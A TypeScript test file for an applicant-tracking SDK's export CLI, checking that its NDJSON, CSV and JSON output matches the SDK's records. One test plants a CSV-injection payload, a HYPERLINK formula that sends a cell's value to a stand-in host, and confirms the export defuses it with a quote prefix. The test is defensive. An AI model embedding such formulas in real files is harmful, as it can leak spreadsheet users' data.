/**
 * `factorial-ats export`, run as a child process against a sandbox over HTTP: every resource in every format holds
 * exactly the records of the SDK's own scan, in order, ids as exact strings.
 */
import { Ats, Candidates, type Resource } from "@effect-factorial/ats"
import { SandboxState } from "@effect-factorial/sandbox"
import { CompanyId } from "@effect-factorial/schema"
import { describe, expect, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import * as SchemaAST from "effect/SchemaAST"
import { cli, parseCsv, sandbox, sandboxEnv, scan } from "./support.js"

/** Filters a resource requires (the API refuses messages without last_per_conversation). */
const required: Record<string, { readonly filter: ReadonlyArray<string>; readonly params: Record<string, unknown> }> = {
  messages: { filter: ["--filter", "last_per_conversation=false"], params: { last_per_conversation: false } }
}

const columnsOf = (model: Schema.Schema.AnyNoContext): Array<string> => {
  const ast = SchemaAST.encodedAST(model.ast)
  return ast._tag === "TypeLiteral" ? ast.propertySignatures.map((p) => String(p.name)) : []
}

/**
 * What a CSV cell must hold for a value: empty for absent or null, JSON for nested values, and text a spreadsheet
 * would run as a formula after a `'`.
 */
const cell = (value: unknown) =>
  value === undefined || value === null
    ? ""
    : typeof value === "object"
    ? JSON.stringify(value)
    : typeof value === "string" && /^[=+\-@\t\r]/.test(value)
    ? `'${value}`
    : String(value)

const definitions = Ats.resources as ReadonlyArray<Resource.Definition>

layer(sandbox({ size: 230, seed: 7 }), { excludeTestServices: true })("export matches the SDK's scan", (it) => {
  it.effect("the 12 resources are all exported", () => Effect.sync(() => expect(definitions.length).toBe(12)))

  for (const definition of definitions) {
    describe(definition.path, () => {
      it.effect("ndjson, csv and json hold the scan's records, in order", () =>
        Effect.gen(function*() {
          const env = yield* sandboxEnv
          const extra = required[definition.path]
          const expected = yield* scan(definition, extra?.params)
          expect(expected.length).toBeGreaterThan(0)
          const [ndjson, csv, json] = yield* Effect.all(
            (["ndjson", "csv", "json"] as const).map((format) =>
              cli(["export", definition.path, "--format", format, ...(extra?.filter ?? [])], { env })
            ),
            { concurrency: 3 }
          )
          for (const result of [ndjson!, csv!, json!]) {
            expect(result.stderr).toBe("")
            expect(result.code).toBe(0)
          }
          // NDJSON: one record a line, ids as strings (never numbers).
          const lines = ndjson!.stdout.split("\n")
          expect(lines.pop()).toBe("")
          expect(lines.map((line) => JSON.parse(line))).toEqual(expected)
          expect(lines[0]).toMatch(/^\{"id":"\d+"/)
          // JSON: one array.
          expect(JSON.parse(json!.stdout)).toEqual(expected)
          // CSV: the header is the model's fields, every cell its value.
          const rows = parseCsv(csv!.stdout)
          const columns = columnsOf(definition.model)
          expect(rows[0]).toEqual(columns)
          expect(rows.slice(1)).toEqual(expected.map((record) => columns.map((column) => cell(record[column]))))
        }))
    })
  }

  it.effect("--filter, --max and --concurrency select the same records as the SDK", () =>
    Effect.gen(function*() {
      const env = yield* sandboxEnv
      const candidates = definitions.find((d) => d.path === "candidates")!
      const active = yield* scan(candidates, { active: true })
      const [filtered, offset, limited] = yield* Effect.all([
        cli(["export", "candidates", "--filter", "active=true"], { env }),
        cli(["export", "candidates", "--concurrency", "3", "--strategy", "offset"], { env }),
        cli(["export", "candidates", "--max", "7", "--format", "json", "--concurrency", "auto"], { env })
      ], { concurrency: 3 })
      const parse = (text: string) => text.trim().split("\n").map((line) => JSON.parse(line))
      expect(parse(filtered.stdout)).toEqual(active)
      const all = yield* scan(candidates)
      expect(all.length).toBe(230)
      expect(parse(offset.stdout)).toEqual(all)
      expect(JSON.parse(limited.stdout)).toEqual(all.slice(0, 7))
    }))

  it.effect("--out writes the file and nothing to stdout", () =>
    Effect.gen(function*() {
      const env = yield* sandboxEnv
      const { mkdtempSync, readFileSync } = yield* Effect.promise(() => import("node:fs"))
      const { tmpdir } = yield* Effect.promise(() => import("node:os"))
      const out = `${mkdtempSync(`${tmpdir()}/cli-`)}/stages.csv`
      const result = yield* cli(["export", "hiring_stages", "--format", "csv", "--out", out], { env })
      expect(result).toMatchObject({ code: 0, stdout: "", stderr: "" })
      const definition = definitions.find((d) => d.path === "hiring_stages")!
      expect(parseCsv(readFileSync(out, "utf8")).length).toBe((yield* scan(definition)).length + 1)
    }))
})

layer(sandbox({ size: 2, seed: 7 }), { excludeTestServices: true })("CSV injection", (it) => {
  it.effect("formula text is written after a ' by default, as it is with --csv-raw, and only CSV takes the flag", () =>
    Effect.gen(function*() {
      const env = yield* sandboxEnv
      const formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")"
      const company = CompanyId.make((yield* SandboxState).companyId)
      const created = yield* Effect.flatMap(Candidates, (candidates) =>
        candidates.create({ first_name: formula, last_name: "@SUM(1+1)", company_id: company, email: "-x@example.com" }))
      const [guarded, raw, notCsv] = yield* Effect.all([
        cli(["export", "candidates", "--format", "csv"], { env }),
        cli(["export", "candidates", "--format", "csv", "--csv-raw"], { env }),
        cli(["export", "candidates", "--csv-raw"], { env })
      ], { concurrency: 3 })
      const rowOf = (stdout: string) => {
        const [header, ...rows] = parseCsv(stdout)
        const row = rows.find((cells) => cells[header!.indexOf("id")] === String(created.id))!
        return Object.fromEntries(["first_name", "last_name", "email"].map((name) => [name, row[header!.indexOf(name)]]))
      }
      expect(guarded.code).toBe(0)
      expect(rowOf(guarded.stdout)).toEqual({ first_name: `'${formula}`, last_name: "'@SUM(1+1)", email: "'-x@example.com" })
      expect(raw.code).toBe(0)
      expect(rowOf(raw.stdout)).toEqual({ first_name: formula, last_name: "@SUM(1+1)", email: "-x@example.com" })
      expect(notCsv.code).not.toBe(0)
      expect(notCsv.stderr).toContain("--csv-raw: only with --format csv")
    }))
})
